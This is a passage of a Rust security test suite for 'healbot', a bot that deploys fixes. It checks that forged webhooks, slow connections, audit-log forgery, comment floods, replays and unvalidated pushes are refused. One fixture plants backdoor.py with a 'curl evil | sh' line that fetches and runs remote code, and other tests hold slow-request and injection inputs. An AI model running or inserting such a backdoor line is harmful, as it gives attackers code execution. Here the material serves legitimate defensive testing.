//! The attacks of issue 13 against `healbot serve` and the CLI, each as a test that failed on
//! the main branch before the fix: forged and oversized inbound hooks, slow and idle
//! connections, a truncated or rewritten audit history.

use healbot::config::bot::{BotConfig, HttpLimits, InboundTokens, Secret};
use healbot::server::{serve_on, ServeOptions, ServerHandle};
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::path::Path;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const SECRET: &str = "adversarial-webhook-secret";

fn config(state: &Path) -> BotConfig {
    BotConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        inbound: InboundTokens {
            alertmanager: vec![Secret::new("am-old"), Secret::new("am-new")],
            argo: vec![Secret::new("argo-token")],
        },
        http: HttpLimits {
            max_connections: 4,
            read_timeout: Duration::from_secs(1),
            shutdown_grace: Duration::from_secs(2),
        },
        ..BotConfig::new(state.to_path_buf(), vec![Secret::new(SECRET)])
    }
}

async fn start(config: BotConfig) -> ServerHandle {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    serve_on(listener, config, ServeOptions::default())
        .await
        .unwrap()
}

fn alert() -> Value {
    json!({
        "version": "4", "groupKey": "{}:{service=\"payment-service\"}", "truncatedAlerts": 0,
        "status": "firing", "receiver": "healbot",
        "groupLabels": {"service": "payment-service"},
        "commonLabels": {"service": "payment-service", "severity": "critical"},
        "commonAnnotations": {}, "externalURL": "http://alertmanager:9093",
        "alerts": [{
            "status": "firing",
            "labels": {"alertname": "HighErrorRate", "service": "payment-service"},
            "annotations": {"summary": "5xx"},
            "startsAt": "2026-11-28T02:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "http://prometheus:9090/graph", "fingerprint": "5f1e2d3c4b5a6978"
        }]
    })
}

async fn post(
    addr: std::net::SocketAddr,
    path: &str,
    token: Option<&str>,
    body: Vec<u8>,
) -> StatusCode {
    let mut req = healbot::http_client::client()
        .post(format!("http://{addr}{path}"))
        .header("content-type", "application/json")
        .body(body);
    if let Some(token) = token {
        req = req.header("authorization", format!("Bearer {token}"));
    }
    req.send().await.unwrap().status()
}

fn deliveries_recorded(state: &Path) -> usize {
    healbot::server::delivery_log::log_text(state)
        .lines()
        .count()
}

#[tokio::test]
async fn inbound_hooks_need_their_bearer_token_and_record_nothing_without_it() {
    let dir = tempfile::tempdir().unwrap();
    let h = start(config(dir.path())).await;
    let body = serde_json::to_vec(&alert()).unwrap();
    let am = "/webhooks/alertmanager";
    assert_eq!(
        post(h.addr, am, None, body.clone()).await,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        post(h.addr, am, Some("wrong"), body.clone()).await,
        StatusCode::UNAUTHORIZED
    );
    // Argo's token does not open Alertmanager's route.
    assert_eq!(
        post(h.addr, am, Some("argo-token"), body.clone()).await,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        deliveries_recorded(dir.path()),
        0,
        "a refused hook must not be recorded"
    );
    // Both tokens of a rotation work; the scheme is case-insensitive.
    assert_eq!(
        post(h.addr, am, Some("am-old"), body.clone()).await,
        StatusCode::ACCEPTED
    );
    assert_eq!(
        post(h.addr, am, Some("am-new"), body.clone()).await,
        StatusCode::ACCEPTED
    );
    let lower = healbot::http_client::client()
        .post(format!("http://{}{am}", h.addr))
        .header("authorization", "bearer am-new")
        .body(body.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(lower.status(), StatusCode::ACCEPTED);
    let argo = json!({"trigger": "on-rollout-completed", "rollout": "x", "namespace": "y"});
    let argo = serde_json::to_vec(&argo).unwrap();
    assert_eq!(
        post(h.addr, "/webhooks/argo", None, argo.clone()).await,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        post(h.addr, "/webhooks/argo", Some("am-new"), argo.clone()).await,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        post(h.addr, "/webhooks/argo", Some("argo-token"), argo).await,
        StatusCode::ACCEPTED
    );
    h.shutdown().await.unwrap();
}

#[tokio::test]
async fn an_inbound_hook_without_a_token_is_disabled_and_healthz_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let h = start(BotConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        ..BotConfig::new(dir.path().to_path_buf(), vec![Secret::new(SECRET)])
    })
    .await;
    let body = serde_json::to_vec(&alert()).unwrap();
    for path in ["/webhooks/alertmanager", "/webhooks/argo"] {
        assert_eq!(
            post(h.addr, path, Some("anything"), body.clone()).await,
            StatusCode::NOT_FOUND
        );
    }
    let health: Value = healbot::http_client::client()
        .get(format!("http://{}/healthz", h.addr))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(
        health["inbound"]["alertmanager"]
            .as_str()
            .unwrap()
            .starts_with("disabled"),
        "{health}"
    );
    assert!(health["inbound"]["argo"]
        .as_str()
        .unwrap()
        .starts_with("disabled"));
    assert_eq!(deliveries_recorded(dir.path()), 0);
    h.shutdown().await.unwrap();
}

#[tokio::test]
async fn oversized_inbound_bodies_are_refused_before_parsing() {
    let dir = tempfile::tempdir().unwrap();
    let h = start(config(dir.path())).await;
    // Valid JSON of 2 MB: refused with 413 for its size, not parsed.
    let big = format!("{{\"pad\": \"{}\"}}", "x".repeat(2 * 1024 * 1024));
    let status = post(
        h.addr,
        "/webhooks/alertmanager",
        Some("am-new"),
        big.into_bytes(),
    )
    .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // Without a content-length (chunked), the limit holds while reading.
    let mut chunked = TcpStream::connect(h.addr).await.unwrap();
    chunked
        .write_all(
            b"POST /webhooks/argo HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer argo-token\r\n\
              Transfer-Encoding: chunked\r\n\r\n",
        )
        .await
        .unwrap();
    let chunk = vec![b' '; 64 * 1024];
    for _ in 0..32 {
        let head = format!("{:x}\r\n", chunk.len());
        let sent = async {
            chunked.write_all(head.as_bytes()).await?;
            chunked.write_all(&chunk).await?;
            chunked.write_all(b"\r\n").await
        };
        if sent.await.is_err() {
            break; // the server answered and closed mid-body
        }
    }
    let answer = closed_within(&mut chunked, Duration::from_secs(5))
        .await
        .unwrap_or_default();
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 413"), "{text}");
    assert_eq!(deliveries_recorded(dir.path()), 0);
    h.shutdown().await.unwrap();
}

#[tokio::test]
async fn internal_listen_keeps_alertmanager_argo_and_metrics_off_the_public_listener() {
    let dir = tempfile::tempdir().unwrap();
    let mut c = config(dir.path());
    c.internal_listen = Some("127.0.0.1:0".parse().unwrap());
    let h = start(c).await;
    let internal = h.internal_addr.expect("internal listener");
    let body = serde_json::to_vec(&alert()).unwrap();
    assert_eq!(
        post(
            h.addr,
            "/webhooks/alertmanager",
            Some("am-new"),
            body.clone()
        )
        .await,
        StatusCode::NOT_FOUND
    );
    let public_metrics = healbot::http_client::client()
        .get(format!("http://{}/metrics", h.addr))
        .send()
        .await
        .unwrap();
    assert_eq!(public_metrics.status(), StatusCode::NOT_FOUND);
    assert_eq!(
        post(internal, "/webhooks/alertmanager", Some("am-new"), body).await,
        StatusCode::ACCEPTED
    );
    let metrics = healbot::http_client::client()
        .get(format!("http://{internal}/metrics"))
        .send()
        .await
        .unwrap();
    assert_eq!(metrics.status(), StatusCode::OK);
    // GitHub's webhook stays public only.
    assert_eq!(
        post(internal, "/webhooks/github", None, b"{}".to_vec()).await,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        post(h.addr, "/webhooks/github", None, b"{}".to_vec()).await,
        StatusCode::UNAUTHORIZED
    );
    h.shutdown().await.unwrap();
}

/// Reads until the peer closes; `None` when it is still open after `wait`.
async fn closed_within(stream: &mut TcpStream, wait: Duration) -> Option<Vec<u8>> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = Instant::now() + wait;
    loop {
        let left = deadline.checked_duration_since(Instant::now())?;
        match tokio::time::timeout(left, stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return Some(got),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => return None,
        }
    }
}

#[tokio::test]
async fn slow_headers_slow_bodies_and_idle_connections_are_cut_off() {
    let dir = tempfile::tempdir().unwrap();
    let h = start(config(dir.path())).await;
    // Slow headers: half a request line, then nothing.
    let mut slow_header = TcpStream::connect(h.addr).await.unwrap();
    slow_header
        .write_all(b"POST /webhooks/github HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    // Slow body: full headers promising 1000 bytes, 10 sent.
    let mut slow_body = TcpStream::connect(h.addr).await.unwrap();
    slow_body
        .write_all(
            b"POST /webhooks/alertmanager HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer am-new\r\n\
              Content-Length: 1000\r\n\r\n{\"a\": 1, ",
        )
        .await
        .unwrap();
    // Idle: connected, never a byte.
    let mut idle = TcpStream::connect(h.addr).await.unwrap();
    for (name, stream) in [
        ("slow header", &mut slow_header),
        ("slow body", &mut slow_body),
        ("idle", &mut idle),
    ] {
        let got = closed_within(stream, Duration::from_secs(8)).await;
        assert!(
            got.is_some(),
            "{name} connection still open after 8 s (timeout is 1 s)"
        );
        if name == "slow body" {
            let text = String::from_utf8_lossy(got.as_deref().unwrap_or_default()).to_string();
            assert!(text.starts_with("HTTP/1.1 408"), "{text}");
        }
    }
    h.shutdown().await.unwrap();
}

#[tokio::test]
async fn connections_beyond_the_limit_get_503_and_healthz_comes_back() {
    let dir = tempfile::tempdir().unwrap();
    let h = start(config(dir.path())).await;
    let mut held = Vec::new();
    for _ in 0..4 {
        let s = TcpStream::connect(h.addr).await.unwrap();
        held.push(s);
    }
    // Let the server accept them all before the fifth arrives.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let mut fifth = TcpStream::connect(h.addr).await.unwrap();
    let answer = closed_within(&mut fifth, Duration::from_secs(3))
        .await
        .expect("the fifth connection is answered and closed at once");
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 503"), "{text}");
    assert!(text.to_ascii_lowercase().contains("retry-after"), "{text}");
    // The idle ones are cut off by the read timeout, and the server answers again.
    let mut ok = false;
    for _ in 0..40 {
        tokio::time::sleep(Duration::from_millis(250)).await;
        if let Ok(r) = healbot::http_client::client()
            .get(format!("http://{}/healthz", h.addr))
            .send()
            .await
        {
            if r.status() == StatusCode::OK {
                ok = true;
                break;
            }
        }
    }
    assert!(ok, "/healthz never came back after the idle connections");
    drop(held);
    h.shutdown().await.unwrap();
}

#[tokio::test]
async fn shutdown_does_not_wait_for_a_stuck_client() {
    let dir = tempfile::tempdir().unwrap();
    let mut c = config(dir.path());
    // A long read timeout, so only the shutdown grace can end the stuck request.
    c.http.read_timeout = Duration::from_secs(60);
    let h = start(c).await;
    let mut stuck = TcpStream::connect(h.addr).await.unwrap();
    stuck
        .write_all(
            b"POST /webhooks/alertmanager HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer am-new\r\n\
              Content-Length: 1000\r\n\r\n{",
        )
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(200)).await;
    // Two seconds of grace: the shutdown must not wait the 60 s the request could still take.
    tokio::time::timeout(Duration::from_secs(15), h.shutdown())
        .await
        .expect("shutdown ends within the grace period")
        .unwrap();
}

// ---- §6: the audit chain catches truncation and a rewritten history ----

mod signed_log {
    use healbot::audit::checkpoint::{checkpoints_path, CheckpointFile, SigningKey};
    use healbot::audit::signed::SignedStore;
    use healbot::audit::{hash_entry, AuditEntry, AuditStore, FileAuditStore, NewEntry};
    use std::path::{Path, PathBuf};
    use std::process::Command;
    use std::sync::Arc;

    const KEY: &[u8] = b"0123456789abcdef0123456789abcdef-test-key";

    struct Signed {
        dir: tempfile::TempDir,
        log: PathBuf,
        key: PathBuf,
    }

    /// 30 entries: an approval at seq 7, transitions every fourth, checkpoints every 5.
    async fn signed_log() -> Signed {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("audit.jsonl");
        let key = dir.path().join("audit.key");
        std::fs::write(&key, KEY).unwrap();
        let inner: Arc<dyn AuditStore> = Arc::new(FileAuditStore::open(&log).unwrap());
        let sink = CheckpointFile::open(&checkpoints_path(&log)).unwrap();
        let signing = SigningKey::from_file(&key).unwrap();
        let store = SignedStore::open(inner, signing, 5, &["operation.transition"], Box::new(sink))
            .await
            .unwrap();
        for i in 1..=30u64 {
            let (actor, action) = match i {
                7 => ("alice", "review.approved"),
                i if i % 4 == 0 => ("healbot", "operation.transition"),
                _ => ("healbot", "canary.judged"),
            };
            store
                .append(NewEntry {
                    operation_id: "op-1".into(),
                    correlation_id: format!("c{i}"),
                    actor: actor.into(),
                    action: action.into(),
                    detail: serde_json::json!({"n": i}),
                })
                .await
                .unwrap();
        }
        drop(store);
        Signed { dir, log, key }
    }

    fn verify(s: &Signed, extra: &[&str]) -> (i32, String) {
        let out = Command::new(env!("CARGO_BIN_EXE_healbot"))
            .args(["audit", "verify"])
            .arg(&s.log)
            .args(extra)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        (out.status.code().unwrap_or(-1), text)
    }

    fn with_key(s: &Signed) -> (i32, String) {
        let key = s.key.display().to_string();
        verify(s, &["--key", &key])
    }

    fn entries(path: &Path) -> Vec<AuditEntry> {
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn write(path: &Path, entries: &[AuditEntry]) {
        let text: String = entries
            .iter()
            .map(|e| serde_json::to_string(e).unwrap() + "\n")
            .collect();
        std::fs::write(path, text).unwrap();
    }

    /// Re-chains every entry from `from` on, as an attacker who edits one recomputes the rest.
    fn rehash(entries: &mut [AuditEntry], from: usize) {
        for i in from..entries.len() {
            if i > 0 {
                entries[i].prev_hash = entries[i - 1].hash.clone();
            }
            entries[i].hash = hash_entry(&entries[i]);
        }
    }

    #[tokio::test]
    async fn a_signed_log_verifies_with_its_key() {
        let s = signed_log().await;
        let (code, out) = with_key(&s);
        assert_eq!(code, 0, "{out}");
        // 28 is the last transition; 29 and 30 wait for the next checkpoint.
        assert!(out.contains("signed: last signed head seq 28"), "{out}");
        assert!(out.contains("2 entries after it not yet signed"), "{out}");
    }

    #[tokio::test]
    async fn cutting_off_the_last_ten_entries_is_caught() {
        let s = signed_log().await;
        let all = entries(&s.log);
        let head = format!("{}:{}", all[29].seq, all[29].hash);
        write(&s.log, &all[..20]);
        // The hash chain alone still holds: that was the attack.
        assert_eq!(verify(&s, &[]).0, 0);
        let (code, out) = with_key(&s);
        assert_eq!(code, 1, "{out}");
        assert!(out.contains("cut off"), "{out}");
        // A head recorded elsewhere (a PR footer) catches it without the key.
        let (code, out) = verify(&s, &["--expect-head", &head]);
        assert_eq!(code, 1, "{out}");
        assert!(out.contains("not in the log"), "{out}");
    }

    #[tokio::test]
    async fn an_edited_entry_with_every_later_hash_recomputed_is_caught() {
        let s = signed_log().await;
        let mut all = entries(&s.log);
        let seventh = format!("{}:{}", all[6].seq, all[6].hash);
        all[6].actor = "mallory".into();
        rehash(&mut all, 6);
        write(&s.log, &all);
        assert_eq!(verify(&s, &[]).0, 0, "the chain alone holds");
        let (code, out) = with_key(&s);
        assert_eq!(code, 1, "{out}");
        assert!(out.contains("rewritten"), "{out}");
        let (code, out) = verify(&s, &["--expect-head", &seventh]);
        assert_eq!(code, 1, "{out}");
        assert!(out.contains("rewritten"), "{out}");
    }

    #[tokio::test]
    async fn a_history_forged_from_the_first_entry_is_caught() {
        let s = signed_log().await;
        let mut all = entries(&s.log);
        for e in all.iter_mut() {
            e.detail = serde_json::json!({"forged": true});
        }
        rehash(&mut all, 0);
        write(&s.log, &all);
        assert_eq!(verify(&s, &[]).0, 0, "the chain alone holds");
        let (code, out) = with_key(&s);
        assert_eq!(code, 1, "{out}");
        // Without its checkpoints file the forgery is refused too.
        std::fs::remove_file(checkpoints_path(&s.log)).unwrap();
        let (code, out2) = with_key(&s);
        assert_eq!(code, 1, "{out} / {out2}");
        assert!(out2.contains("no signed checkpoint"), "{out2}");
    }

    #[tokio::test]
    async fn a_forged_checkpoint_does_not_verify_and_a_wrong_key_is_named() {
        let s = signed_log().await;
        let other = s.dir.path().join("other.key");
        std::fs::write(&other, [b'k'; 40]).unwrap();
        let (code, out) = verify(&s, &["--key", &other.display().to_string()]);
        assert_eq!(code, 1, "{out}");
        assert!(out.contains("not signed by any key given"), "{out}");
        let short = s.dir.path().join("short.key");
        std::fs::write(&short, "tiny").unwrap();
        let (code, out) = verify(&s, &["--key", &short.display().to_string()]);
        assert_eq!(code, 2, "{out}");
        assert!(out.contains("at least 32"), "{out}");
    }

    #[tokio::test]
    async fn a_crash_repair_keeps_what_it_set_aside_and_verify_says_so() {
        let s = signed_log().await;
        let bytes = std::fs::read(&s.log).unwrap();
        std::fs::write(&s.log, &bytes[..bytes.len() - 30]).unwrap();
        let store = FileAuditStore::open(&s.log).unwrap();
        let partial = store.repaired().unwrap().partial_path.clone();
        drop(store);
        assert!(partial.exists());
        let (code, out) = verify(&s, &[]);
        assert_eq!(code, 0, "{out}");
        assert!(out.contains("set aside by a crash repair"), "{out}");
        assert!(out.contains(&partial.file_name().unwrap().to_string_lossy().to_string()));
    }
}

// ---- §7: one comment cannot make healbot answer thousands of times; §8: replays ----

mod through_the_app {
    use crate::support::app::{comment, fixture, person, with_repo, App};
    use healbot::operation::OpState;
    use serde_json::json;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn seven_thousand_heal_lines_get_one_reply() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let text: String = (0..7000).map(|i| format!("/heal z{i}\n\n")).collect();
        let body = comment(&t.fake, 1, "mallory", &text);
        t.deliver("issue_comment", "flood-1", &body).await;
        t.fake.expect_comments(&["6995 more were ignored"]);
        let reply = t.fake.bot_comments().last().cloned().unwrap();
        assert_eq!(
            reply.matches("I don't know the command").count(),
            5,
            "{reply}"
        );
        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn someone_without_read_access_gets_no_reply_and_quoted_text_is_inert() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        // `stranger` has no permission at all on the repository (404 from GitHub).
        let body = comment(&t.fake, 1, "stranger", "/heal status\n/heal nope");
        t.deliver("issue_comment", "stranger-1", &body).await;
        t.fake.expect_comments(&[]);
        assert!(t.fake.reactions().is_empty(), "no 👀 for a stranger");
        // A reader's unknown verb is quoted as code: no HTML, no mention, no hidden marker.
        let body = comment(&t.fake, 1, "mallory", "/heal x<!--healbot:hide-->@alice");
        t.deliver("issue_comment", "mallory-1", &body).await;
        t.fake.expect_comments(&["I don't know the command"]);
        let reply = t.fake.bot_comments().last().cloned().unwrap();
        assert!(reply.contains("`x<!--healbot:hide-->@alice`"), "{reply}");
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_person_spending_the_command_budget_hears_once_then_nothing() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        for i in 0..4 {
            let text = "/heal q1\n/heal q2\n/heal q3\n/heal q4\n/heal q5";
            let body = comment(&t.fake, 1, "mallory", text);
            t.deliver("issue_comment", &format!("budget-{i}"), &body)
                .await;
        }
        t.fake.expect_comments(&["I don't know"; 4]);
        for i in 4..8 {
            let body = comment(&t.fake, 1, "mallory", "/heal status");
            t.deliver("issue_comment", &format!("budget-{i}"), &body)
                .await;
        }
        t.fake.expect_comments(&["more than 20 `/heal` commands"]);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_replayed_rollback_click_with_a_new_delivery_id_acts_once() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let head = t.head(1).await;
        let check_id = t.fake.check_runs()[0]["id"].as_u64().unwrap();
        let mut click = with_repo(fixture("check_run/requested_action"));
        click["check_run"]["id"] = json!(check_id);
        click["check_run"]["name"] = json!("healbot/safety-gates");
        click["check_run"]["head_sha"] = json!(head);
        click["check_run"]["pull_requests"][0]["number"] = json!(1);
        click["requested_action"]["identifier"] = json!("approve");
        click["sender"] = person("alice");
        t.production.heal();
        t.deliver("check_run", "click-1", &click).await;
        assert_eq!(t.state_of_only_operation().await, OpState::Completed);
        t.expect_full_rollout();
        // The same click again under a new delivery id (GitHub does not sign the id).
        let approvals = |actions: &[(String, String)]| {
            actions
                .iter()
                .filter(|(_, a)| a == "override.answered" || a == "review.approved")
                .count()
        };
        let before = approvals(&t.audit_actions().await);
        t.deliver("check_run", "click-1-replayed", &click).await;
        assert_eq!(approvals(&t.audit_actions().await), before);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn replayed_installation_events_are_checked_with_github() {
        let mut t = App::start().await;
        let installations = |t: &App| {
            std::fs::read_to_string(t.state.path().join("state/installations.json"))
                .unwrap_or_default()
        };
        // An old `created` for an installation GitHub no longer lists.
        let mut created = fixture("installation/created");
        created["installation"]["id"] = json!(999);
        t.deliver("installation", "old-created", &created).await;
        assert!(!installations(&t).contains("999"), "{}", installations(&t));
        // A `created` GitHub confirms is recorded …
        let mut live = fixture("installation/created");
        live["installation"]["id"] = json!(crate::support::github::INSTALLATION_ID);
        t.deliver("installation", "live-created", &live).await;
        assert!(
            installations(&t).contains("\"77\""),
            "{}",
            installations(&t)
        );
        // … and a replayed `deleted` of it, while GitHub still lists it, removes nothing.
        let mut deleted = fixture("installation/deleted");
        deleted["installation"]["id"] = json!(crate::support::github::INSTALLATION_ID);
        t.deliver("installation", "replayed-deleted", &deleted)
            .await;
        assert!(
            installations(&t).contains("\"77\""),
            "{}",
            installations(&t)
        );
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn an_outsiders_copy_of_a_hidden_marker_does_not_suppress_healbots_comment() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let first = t.fake.bot_comments()[0].clone();
        let op = first
            .split("<!-- healbot:")
            .nth(1)
            .and_then(|rest| rest.split("/comment/").next())
            .expect("the bot comment carries its marker")
            .to_string();
        // Markers for the canary comments to come, planted before the approval.
        for weight in [10, 50, 100] {
            t.fake.add_comment(
                crate::support::app::REPO,
                1,
                "mallory",
                &format!("nice <!-- healbot:{op}/comment/canary-{weight} -->"),
            );
        }
        t.production.heal();
        t.approve(1, 501).await;
        assert_eq!(t.state_of_only_operation().await, OpState::Completed);
        t.expect_full_rollout();
        t.fake.assert_clean();
    }
}

// ---- §3: an approval merges only the commit healbot validated ----

mod approvals {
    use crate::support::app::{
        comment, pull_request, review, App, AppOptions, FULL_ROLLOUT, REPO, SERVICE_DIR,
    };
    use healbot::operation::OpState;

    /// Pushes `backdoor.py` to the operation's fix branch as a person with write access would.
    async fn push_backdoor(t: &App) -> String {
        let branch = "healbot/".to_string()
            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
        t.fake.push(
            REPO,
            &branch,
            &[("backdoor.py", "import os\nos.system('curl evil | sh')\n")],
            "tidy up\n",
        )
    }

    fn backdoor_on_main(t: &App) -> bool {
        let main = t.fake.branch(REPO, "main").unwrap();
        t.fake.file(REPO, &main, "backdoor.py").is_some()
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_push_then_an_approval_of_it_merges_nothing() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let validated = t.head(1).await;
        let pushed = push_backdoor(&t).await;
        // The approval arrives before GitHub's `synchronize`: the head is checked live.
        t.deliver(
            "pull_request_review",
            "r-pushed",
            &review(1, "alice", "approved", &pushed, 9001),
        )
        .await;
        t.fake
            .expect_comments(&["is not the commit healbot validated"]);
        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
        // Then the push is reported: the operation is cancelled, the lock freed.
        t.deliver(
            "pull_request",
            "sync-1",
            &pull_request("synchronize", 1, "alice", &pushed, None),
        )
        .await;
        t.fake.expect_comments(&["no longer acts on this PR"]);
        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
        // An approval of the validated commit, given before, does not count now either.
        t.deliver(
            "pull_request_review",
            "r-old",
            &review(1, "alice", "approved", &validated, 9002),
        )
        .await;
        t.fake.expect_comments(&["nothing to approve"]);
        let body = comment(&t.fake, 1, "alice", "/heal approve");
        t.deliver("issue_comment", "c-approve", &body).await;
        t.fake.expect_comments(&["nothing to approve"]);
        assert!(!backdoor_on_main(&t));
        assert!(
            t.fake.merge_calls().is_empty(),
            "{:?}",
            t.fake.merge_calls()
        );
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_merge_call_names_the_validated_sha() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let validated = t.head(1).await;
        t.production.heal();
        t.approve(1, 9101).await;
        t.expect_full_rollout();
        let calls = t.fake.merge_calls();
        assert_eq!(calls.len(), 1, "{calls:?}");
        assert_eq!(calls[0]["sha"], serde_json::json!(validated));
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_person_merging_an_unvalidated_head_is_not_deployed() {
        let mut t = App::start().await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let pushed = push_backdoor(&t).await;
        // Merged on GitHub by hand, with the push in it: healbot takes none of it further.
        let merge = t.fake.push(REPO, "main", &[("merged.txt", "x")], "merge\n");
        t.deliver(
            "pull_request",
            "closed-unvalidated",
            &pull_request("closed", 1, "alice", &pushed, Some(&merge)),
        )
        .await;
        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
        let actions = t.audit_actions().await;
        assert!(actions.contains(&("alice".into(), "pr.merged_unvalidated".into())));
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn with_revalidation_the_pusher_cannot_approve_and_someone_else_can() {
        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
            .unwrap()
            .replace("allow: []", "allow: []\n  on_push: revalidate");
        let mut t = App::start_with(AppOptions {
            repo_config: Some(config),
            ..AppOptions::default()
        })
        .await;
        t.fake.set_permission(REPO, "bob", "write");
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let validated = t.head(1).await;
        // A harmless push that keeps the check green.
        let branch = "healbot/".to_string()
            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
        let pushed = t
            .fake
            .push(REPO, &branch, &[("NOTES.md", "reviewed\n")], "notes\n");
        t.deliver(
            "pull_request",
            "sync-ok",
            &pull_request("synchronize", 1, "alice", &pushed, None),
        )
        .await;
        t.fake
            .expect_comments(&["ran the check on it again and it passed"]);
        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
        // The pusher's own approval does not count.
        t.deliver(
            "pull_request_review",
            "r-alice",
            &review(1, "alice", "approved", &pushed, 9201),
        )
        .await;
        t.fake.expect_comments(&["you pushed to this PR's branch"]);
        // An approval of the commit before the push does not count.
        t.deliver(
            "pull_request_review",
            "r-bob-old",
            &review(1, "bob", "approved", &validated, 9202),
        )
        .await;
        t.fake.expect_comments(&["approve again"]);
        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
        // Someone else approving the re-validated head merges exactly that commit.
        t.production.heal();
        t.deliver(
            "pull_request_review",
            "r-bob",
            &review(1, "bob", "approved", &pushed, 9203),
        )
        .await;
        t.fake.expect_comments(&FULL_ROLLOUT);
        assert_eq!(t.fake.merge_calls()[0]["sha"], serde_json::json!(pushed));
        assert_eq!(t.state_of_only_operation().await, OpState::Completed);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn with_revalidation_a_push_that_fails_the_check_cancels() {
        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
            .unwrap()
            .replace("allow: []", "allow: []\n  on_push: revalidate");
        let mut t = App::start_with(AppOptions {
            repo_config: Some(config),
            ..AppOptions::default()
        })
        .await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let branch = "healbot/".to_string()
            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
        let pushed = t.fake.push(
            REPO,
            &branch,
            &[(
                "tests/test_zz_broken.py",
                "import unittest\n\nclass Broken(unittest.TestCase):\n    def test_x(self):\n        self.fail('broken')\n",
            )],
            "break\n",
        );
        t.deliver(
            "pull_request",
            "sync-bad",
            &pull_request("synchronize", 1, "mallory", &pushed, None),
        )
        .await;
        t.fake
            .expect_comments(&["ran the check on it again and it failed"]);
        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
        t.fake.assert_clean();
    }
}

// ---- §2: Argo notifications move only Argo-managed operations of their namespace and
// revision; alert text is inert in PRs ----

mod argo_and_alert_text {
    use crate::argo_app::ARGO_CONFIG;
    use crate::support::app::{policies_with, post_json, App, AppOptions, REPO};
    use healbot::forge::{PrNumber, RepoRef};
    use healbot::operation::OpState;
    use serde_json::{json, Value};

    fn argo(trigger: &str, namespace: &str, revision: u64) -> Value {
        json!({"trigger": trigger, "rollout": "payment-service", "namespace": namespace,
               "revision": revision, "phase": "Degraded",
               "message": "RolloutAborted <img src=x> @alice"})
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn argo_cannot_move_a_healbot_managed_rollout() {
        let state = tempfile::tempdir().unwrap();
